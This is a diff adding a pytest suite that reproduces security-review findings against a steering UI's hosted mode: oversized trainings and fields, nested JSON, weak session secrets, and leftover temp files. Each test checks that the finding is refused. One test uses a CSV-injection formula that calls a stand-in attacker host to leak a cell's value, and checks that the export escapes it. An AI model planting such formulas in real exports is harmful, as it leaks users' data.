@@ -1,0 +1,284 @@
+"""Hosted mode, round 2 (issue #24): each finding of the second attack on ``app.py --hosted`` reproduced and
+refused or bounded, on the real bundled model, a real SQLite log and real files. Numbers are the issue's."""
+
+from __future__ import annotations
+
+import csv
+import json
+import os
+import signal
+import subprocess
+import sys
+import tempfile
+import threading
+import time
+import tracemalloc
+from pathlib import Path
+from types import SimpleNamespace
+
+import gradio as gr
+import pytest
+from helpers import wait_until
+
+from steer_ui.app.context import AppContext
+from steer_ui.app.dashboard import Dashboard
+from steer_ui.app.hosted import Limits
+from steer_ui.errors import UserError
+from steer_ui.log.store import Store
+
+ROOT = Path(__file__).resolve().parent.parent
+EXAMPLES = ROOT / "assets" / "examples" / "in-short.jsonl"
+MB = 2**20
+
+
+@pytest.fixture()
+def hosted(bundled, tmp_path) -> Dashboard:
+    return Dashboard(AppContext(lm=bundled, store=Store(str(tmp_path / "log.sqlite")), files=tmp_path / "files",
+                                limits=Limits()))
+
+
+def said(err: BaseException) -> str:
+    return getattr(err, "message", None) or str(err)
+
+
+def refused(fn, *args, **kwargs) -> tuple[BaseException | None, float, int]:
+    """(what ``fn`` raised, CPU seconds of this thread, peak bytes of Python allocations) while it ran."""
+    tracemalloc.start()
+    started = time.thread_time()
+    raised = None
+    try:
+        fn(*args, **kwargs)
+    except BaseException as err:  # noqa: BLE001 - the refusal is what is measured
+        raised = err
+    cpu_s = time.thread_time() - started
+    peak = tracemalloc.get_traced_memory()[1]
+    tracemalloc.stop()
+    return raised, cpu_s, peak
+
+
+# --- 2. a training outlives its visitor -----------------------------------------------------------------
+def test_a_training_whose_visitor_goes_away_ends_and_frees_the_model(hosted):
+    """The attack: cancelling the API job at step 3 left the training holding the model (another visitor
+    waited 235.7 s). Gradio closes the event's generator when its job is cancelled or its tab closed."""
+    text = "\n".join(EXAMPLES.read_text().splitlines()[:10])
+    page = SimpleNamespace(session_hash="tab-gone")
+    updates = hosted.train.train(text, None, "12", 200, None, request=page)
+    for _ in range(3):
+        next(updates)
+    assert hosted.ctx.model_lock.locked()
+    updates.close()  # what Gradio does on cancel / a closed tab
+    wait_until(lambda: not hosted.ctx.model_lock.locked())  # ended within a step, not after 200
+    assert not hosted.train.stops
+    assert [t for t in threading.enumerate() if t.name == "steer-ui-train"] == []
+
+
+# --- 4. a training's cost is its steps x batch x tokens -------------------------------------------------
+def test_a_training_over_the_token_budget_is_refused_before_any_work(hosted, bundled):
+    """The attack: 200 examples of 4,000 characters x 200 steps held the model ~88 minutes. The examples,
+    steps and text caps each held; their product did not."""
+    forwards = []
+    handle = bundled.layers[0].register_forward_pre_hook(lambda *a: forwards.append(1))
+    long = "\n".join(json.dumps({"prompt": f"Question {i}?", "completion": "In short: " + "word " * 700})
+                     for i in range(200))
+    try:
+        raised, cpu_s, peak = refused(lambda: next(hosted.train.train(long, None, "10-13", 200, None)))
+    finally:
+        handle.remove()
+    assert isinstance(raised, gr.Error) and "token positions through the model" in said(raised)
+    assert "this server's limit is 400,000" in said(raised)
+    assert not forwards and peak < 100 * MB and cpu_s < 1.0  # the examples tokenized, no model work
+
+
+def test_a_preference_set_s_reference_pass_stops_when_asked(bundled):
+    """The attack: Stop during a preference set's reference pass was ignored for 160 s (40 examples)."""
+    from steer_ui.vectors.training import Example, TrainConfig, train_vector
+
+    examples = [Example(f"Is {n} even?", chosen=f"In short: {'yes' if n % 2 == 0 else 'no'}.",
+                        rejected="Well, it depends on many things.") for n in range(40)]
+    cancel, forwards = threading.Event(), []
+
+    def count(*args) -> None:
+        forwards.append(1)
+        if len(forwards) == 3:
+            cancel.set()  # Stop pressed during the reference pass
+
+    handle = bundled.layers[0].register_forward_pre_hook(count)  # training calls the inner model
+    try:
+        result = train_vector(bundled, examples, TrainConfig((12,), steps=5), cancel=cancel)
+    finally:
+        handle.remove()
+    assert result.stopped == "cancelled" and not result.curve
+    assert len(forwards) <= 4  # the pass ended at its next example, not after all 80 forwards
+
+
+# --- 6. questions in a file skip the prompt cap ---------------------------------------------------------
+def test_a_question_longer_than_the_prompt_cap_is_refused(hosted, tmp_path):
+    upload = tmp_path / "upload" / "long.jsonl"
+    upload.parent.mkdir()
+    upload.write_text(json.dumps({"question": "Is this long? " * 2000, "answer": "yes"}) + "\n")
+    with pytest.raises(gr.Error) as err:
+        hosted.sweep.sweep("", str(upload), "0", vector="confidence", max_new_tokens=4, progress=None)
+    assert said(err.value) == "question '1' is 27,999 characters; this server's limit for a prompt is 4,000"
+    assert hosted.ctx.store.list_runs() == []
+
+
+# --- 9. fields parsed before their size is checked ------------------------------------------------------
+def test_the_sweep_s_coefficients_are_length_checked_before_they_are_parsed(hosted):
+    """The attack: a 20 MiB coefficient field added 622 MiB before anything refused it."""
+    raised, cpu_s, peak = refused(hosted.sweep.sweep, "yesno:1", None, "1," * (10 * MB), vector="confidence",
+                                  max_new_tokens=4, progress=None)
+    assert isinstance(raised, gr.Error) and "the coefficients field is 20,971,520 characters" in said(raised)
+    assert cpu_s < 1.0 and peak < 100 * MB
+
+
+# --- 10. a session secret that failed to write ----------------------------------------------------------
+def test_an_empty_or_short_secret_is_never_used(tmp_path, monkeypatch):
+    """The attack: a failed first write left session-secret empty; later starts signed with an empty key,
+    so a session id alone opened another visitor's run."""
+    from steer_ui.app.sessions import SECRET_ENV, SessionTokens, server_secret
+
+    monkeypatch.delenv(SECRET_ENV, raising=False)
+    (tmp_path / "session-secret").write_text("")  # what the failed write left
+    secret = server_secret(tmp_path)
+    assert len(secret) == 64 and (tmp_path / "session-secret").read_text() == secret.decode()
+    assert (tmp_path / "session-secret").stat().st_mode & 0o777 == 0o600
+    assert SessionTokens(b"").issue()[1] != SessionTokens(secret).issue()[1]
+    (tmp_path / "session-secret").write_text("0123")  # cut short
+    assert server_secret(tmp_path) != b"0123" and len(server_secret(tmp_path)) == 64
+    assert not [p for p in tmp_path.iterdir() if p.name.startswith(".tmp-")]  # no half-written files left
+    monkeypatch.setenv(SECRET_ENV, "short")
+    with pytest.raises(UserError, match=r"\$STEER_UI_SESSION_SECRET is 5 characters; a secret needs at least 16"):
+        server_secret(tmp_path)
+
+
+# --- 16. formulas in CSV exports ------------------------------------------------------------------------
+def test_csv_exports_neutralise_formulas_and_sweep_results_round_trip(bundled, tmp_path):
+    from steer_ui.cli import main
+    from steer_ui.engine.run_settings import RunSettings
+    from steer_ui.experiments.questions import Question
+    from steer_ui.experiments.sweep import SweepConfig, run_sweep
+    from steer_ui.log.recorder import RunRecorder
+    from steer_ui.engine.decode import run
+
+    store = Store(str(tmp_path / "log.sqlite"))
+    prompt = '=HYPERLINK("http://attacker.example/?"&A1,"click")'
+    recorder = RunRecorder(store, store.new_session("cli", "test"), bundled, RunSettings(prompt, max_new_tokens=2))
+    for event in run(bundled, RunSettings(prompt, max_new_tokens=2, probe_every=0)):
+        recorder(event)
+    recorder.close()
+    assert main(["export", "--db", str(tmp_path / "log.sqlite"), "--format", "csv", "--out",
+                 str(tmp_path / "export.csv")]) == 0
+    with open(tmp_path / "export_runs.csv", newline="") as f:
+        row = next(csv.DictReader(f))
+    assert row["prompt"] == "'" + prompt  # a spreadsheet shows it as text, and runs nothing
+    # A sweep's results file is read back to resume: its texts come back exactly as they were.
+    q = Question("-1", "=1+1 Is two even?", "-yes", "yesno")
+    cfg = SweepConfig(questions=[q], coefs=(0.0,), template=RunSettings("", max_new_tokens=3, probe_every=0))
+    out = tmp_path / "sweep"
+    run_sweep(bundled, cfg, out)
+    raw = next(csv.DictReader(open(out / "results.csv", newline="")))
+    assert raw["question_id"] == "'-1" and raw["gold"] == "'-yes"
+    assert run_sweep(bundled, cfg, out).ran == 0  # resumed: the question's id read back as "-1"
+
+
+# --- 17. the temp folder after SIGTERM and SIGKILL ------------------------------------------------------
+def test_sigterm_removes_the_temp_folder_and_a_killed_server_s_is_removed_at_the_next_start(tmp_path):
+    from steer_ui.app.context import TEMP_PREFIX, temp_folder
+
+    env = {**os.environ, "HF_HUB_OFFLINE": "1", "STEER_UI_DB": str(tmp_path / "log.sqlite")}
+    with socket_port() as port:
+        server = subprocess.Popen([sys.executable, "app.py", "--port", str(port)], cwd=ROOT, env=env,
+                                  stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, text=True)
+    mine = f"{TEMP_PREFIX}{server.pid}."
+    try:
+        folder = wait_until(lambda: next((p for p in Path(tempfile.gettempdir()).glob(f"{mine}*")), None))
+        wait_until(lambda: _answers(port))
+    finally:
+        server.send_signal(signal.SIGTERM)
+        server.wait(120)
+    assert not folder.exists()
+    # SIGKILL leaves the folder; the next start removes it (its process is gone), and no live server's.
+    dead = Path(tempfile.gettempdir()) / f"{TEMP_PREFIX}{server.pid}.1-abc"
+    dead.mkdir()
+    fresh = temp_folder()
+    assert not dead.exists() and fresh.exists()
+
+
+def _answers(port: int) -> bool:
+    import urllib.request
+
+    try:
+        return urllib.request.urlopen(f"http://127.0.0.1:{port}/", timeout=5).status == 200
+    except OSError:
+        return False
+
+
+class socket_port:
+    def __enter__(self) -> int:
+        import socket
+
+        with socket.socket() as s:
+            s.bind(("127.0.0.1", 0))
+            return s.getsockname()[1]
+
+    def __exit__(self, *exc) -> None:
+        pass
+
+
+# --- 18. a damaged conversion cache ---------------------------------------------------------------------
+def test_a_damaged_conversion_cache_is_rebuilt(bundled, tmp_path):
+    """The attack (a crash or a full disk mid-write): truncated weights stopped every start with a traceback."""
+    from steer_ui.model.loading import load_model
+
+    cache = tmp_path / "cache"
+    import torch
+
+    ids = bundled.tokenizer.encode("Is 7 prime?", return_tensors="pt")
+    with torch.inference_mode():
+        before = load_model("smollm2-135m", device="cpu", dtype="float32", cache_dir=cache).model(input_ids=ids).logits
+    weights = next((cache / "converted").glob("*/model.safetensors"))
+    cut = weights.with_name("cut")
+    cut.write_bytes(weights.read_bytes()[: 4096])
+    os.replace(cut, weights)  # a new file: the first model's memory-mapped weights stay valid
+    again = load_model("smollm2-135m", device="cpu", dtype="float32", cache_dir=cache)
+    assert weights.stat().st_size > 4096
+    with torch.inference_mode():
+        assert torch.equal(before, again.model(input_ids=ids).logits)
+
+
+# --- 19. a log written by a newer version ---------------------------------------------------------------
+def test_a_log_from_a_newer_steer_ui_is_one_message_and_left_alone(tmp_path):
+    import sqlite3
+
+    from steer_ui.cli import main
+
+    db = tmp_path / "log.sqlite"
+    Store(str(db))
+    with sqlite3.connect(db) as conn:
+        conn.execute("update alembic_version set version_num = '0099'")
+    with pytest.raises(UserError, match=r"written by a newer steer-ui \(schema revision 0099; this version knows "
+                                        r"up to 0004\): upgrade steer-ui, or use another --db"):
+        Store(str(db))
+    out = subprocess.run([sys.executable, "-m", "steer_ui", "runs", "--db", str(db)], capture_output=True,
+                         text=True, timeout=300, env={**os.environ, "HF_HUB_OFFLINE": "1"})
+    assert out.returncode == 2 and out.stderr.startswith("error: the session log") and "Traceback" not in out.stderr
+    with sqlite3.connect(db) as conn:
+        assert conn.execute("select version_num from alembic_version").fetchone() == ("0099",)
+    assert main(["runs", "--db", str(tmp_path / "other.sqlite")]) == 0
+
+
+# --- 20. deeply nested JSON lines -----------------------------------------------------------------------
+@pytest.mark.parametrize("line", ["[" * 1990, '{"a":' * 2000])  # past the parser's depth (~1,000)
+def test_deeply_nested_json_is_not_valid_json(hosted, tmp_path, line):
+    from steer_ui.jsonl import parse_lines, read_jsonl
+
+    with pytest.raises(UserError, match=r"^pairs:1: not valid JSON \(nested too deeply\)$"):
+        parse_lines(line, "pairs")
+    path = tmp_path / "q.jsonl"
+    path.write_text(line + "\n")
+    with pytest.raises(UserError, match=r"q.jsonl:1: not valid JSON \(nested too deeply\)$"):
+        read_jsonl(path, "questions", MB)
+    if len(line) < 1992:  # within the hosted cap on the pairs text: it is parsed, and refused as JSON
+        with pytest.raises(gr.Error) as err:
+            hosted.vectors.compute(line, None, "mean_diff", "all", progress=None)
+        assert said(err.value).startswith("pairs:1: not valid JSON (nested too deeply)")
